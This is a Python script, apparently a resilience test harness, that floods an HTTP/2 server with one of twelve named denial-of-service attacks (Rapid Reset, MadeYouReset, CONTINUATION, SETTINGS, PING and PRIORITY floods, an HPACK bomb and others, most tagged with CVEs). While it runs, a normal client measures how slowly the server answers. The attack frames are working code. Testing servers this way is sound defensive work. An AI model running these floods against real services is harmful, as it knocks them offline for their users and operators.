"""Floods of HTTP/2, each until the server closes the connection, and a client that is well behaved meanwhile.

Usage: abuse.py HOST:PORT ATTACK SECONDS

Prints one line of JSON: whether the connection was closed, with which code of GOAWAY if any, after how many frames and
seconds; and of the other client how many requests were answered, and how long they took in milliseconds: the median
before the attack, and the median and the slowest from then on.
"""

import json
import socket
import statistics
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events

from peer import *  # noqa: F403

# Frames of one write.
BATCH = 64
# Seconds before the attack.
QUIET = 0.5


class Attack:
    """What is sent first, and then again and again."""

    def __init__(self, peer):
        self.peer = peer
        self.stream = 1

    def begin(self):
        pass

    def frame(self):
        raise NotImplementedError


class RapidReset(Attack):
    """CVE-2023-44487."""

    def frame(self):
        out = self.peer.headers(self.stream) + reset(self.stream)
        self.stream += 2
        return out


class MadeYouReset(Attack):
    """CVE-2025-8671: streams that the server resets."""

    def frame(self):
        out = self.peer.headers(self.stream, self.peer.request("POST"), end=False) + window(self.stream, 0x7FFFFFFF)
        self.stream += 2
        return out


class Continuation(Attack):
    """CVE-2024-27983 and others: a header block without an end."""

    def begin(self):
        self.peer.send(self.peer.headers(1, more=True))

    def frame(self):
        return raw(CONTINUATION, 0, 1, b"\x00\x03x-a\x20" + b"v" * 32)


class EmptyContinuation(Continuation):
    def frame(self):
        return raw(CONTINUATION, 0, 1)


class Settings(Attack):
    """CVE-2019-9515."""

    def frame(self):
        return settings((3, 100))


class Ping(Attack):
    """CVE-2019-9512."""

    def frame(self):
        return ping()


class Priority(Attack):
    """CVE-2019-9513."""

    def frame(self):
        self.stream += 2
        return priority(self.stream & 0x7FFFFFFF)


class EmptyData(Attack):
    """CVE-2019-9518."""

    def begin(self):
        self.peer.post(1)

    def frame(self):
        return self.peer.data(1, end=False)


class PaddedData(EmptyData):
    """Nothing but padding."""

    def frame(self):
        return raw(DATA, PADDED, 1, b"\x40" + b"\0" * 64)


class WindowUpdate(Attack):
    def begin(self):
        self.peer.post(1)

    def frame(self):
        return window(1, 1)


class Bomb(Attack):
    """A header block that is a thousand times larger once it is decoded: CVE-2016-6581."""

    def begin(self):
        peer = self.peer
        fill = b"\x40\x03x-a\x7f\xa1\x1e" + b"v" * 4000
        peer.send(peer.headers(self.stream, block=peer.block_of(peer.request()) + fill))
        self.stream += 2

    def frame(self):
        out = self.peer.headers(self.stream, block=b"\xbe" * 16000)
        self.stream += 2
        return out


class ZeroWindow(Attack):
    """CVE-2019-9517: responses that nobody takes."""

    def begin(self):
        self.peer.send(settings((4, 0)))

    def frame(self):
        if self.stream > 199:
            time.sleep(0.01)
            return b""
        out = self.peer.headers(self.stream, self.peer.request(path="/big"))
        self.stream += 2
        return out


ATTACKS = {
    "rapid reset": RapidReset,
    "made you reset": MadeYouReset,
    "CONTINUATION": Continuation,
    "empty CONTINUATION": EmptyContinuation,
    "SETTINGS": Settings,
    "PING": Ping,
    "PRIORITY": Priority,
    "empty DATA": EmptyData,
    "padded DATA": PaddedData,
    "WINDOW_UPDATE": WindowUpdate,
    "HPACK bomb": Bomb,
    "zero window": ZeroWindow,
}


class Good(threading.Thread):
    """Another client, by the h2 package: a request every few milliseconds."""

    def __init__(self, address, authority):
        super().__init__(daemon=True)
        self.socket = socket.create_connection(address, timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = authority
        self.connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.stop = threading.Event()
        self.took = []
        self.error = None

    def run(self):
        try:
            self.connection.initiate_connection()
            self.request()
            self.took.clear()
            while not self.stop.is_set():
                self.took.append(self.request())
                time.sleep(0.005)
        except Exception as error:  # noqa: BLE001: told with the result
            self.error = f"{type(error).__name__}: {error}"

    def request(self):
        start = time.monotonic()
        stream = self.connection.get_next_available_stream_id()
        head = [(":method", "GET"), (":scheme", "http"), (":authority", self.authority), (":path", "/")]
        self.connection.send_headers(stream, head, end_stream=True)
        self.socket.sendall(self.connection.data_to_send())
        while True:
            data = self.socket.recv(65536)
            if not data:
                raise ConnectionError("closed")
            for event in self.connection.receive_data(data):
                if isinstance(event, h2.events.StreamEnded):
                    return time.monotonic() - start
                if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    raise ConnectionError(f"{event}")
            self.socket.sendall(self.connection.data_to_send())


class Flood:
    def __init__(self, peer, attack):
        self.peer = peer
        self.attack = attack
        self.frames = 0
        self.code = None

    def run(self, seconds):
        """Reads what comes as well: a flood that is not read ends where the kernel's buffers do."""
        self.attack.begin()
        until = time.monotonic() + seconds
        while time.monotonic() < until and not self.peer.closed:
            batch = b"".join(self.attack.frame() for _ in range(BATCH))
            self.frames += BATCH
            try:
                self.peer.socket.settimeout(1)
                self.peer.socket.sendall(batch)
            except socket.timeout:
                pass
            except OSError:
                self.peer.closed = True
            self.read(0.0)
        self.read(1.0)

    def read(self, seconds):
        try:
            while (frame := self.peer.frame(time.monotonic() + max(seconds, 0.0001))) is not None:
                if frame.type == GOAWAY:
                    self.code = frame.error_code
                del self.peer.seen[:]
        except Exception:  # noqa: BLE001: what is left of a frame at the end
            pass


def millis(seconds):
    return round(seconds * 1000, 1)


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    address = (host, int(port))
    good = Good(address, sys.argv[1])
    good.start()
    time.sleep(QUIET)
    before = len(good.took)
    peer = Peer(address, sys.argv[1])
    flood = Flood(peer, ATTACKS[sys.argv[2]](peer))
    start = time.monotonic()
    flood.run(float(sys.argv[3]))
    took = time.monotonic() - start
    time.sleep(0.2)
    good.stop.set()
    good.join(10)
    print(json.dumps({
        "closed": peer.closed,
        "code": flood.code,
        "frames": flood.frames,
        "seconds": round(took, 2),
        "answered": len(good.took),
        "quiet": millis(statistics.median(good.took[:before] or [0.0])),
        "median": millis(statistics.median(good.took[before:] or [10.0])),
        "slowest": millis(max(good.took[before:], default=10.0)),
        "error": good.error,
    }))


if __name__ == "__main__":
    main()
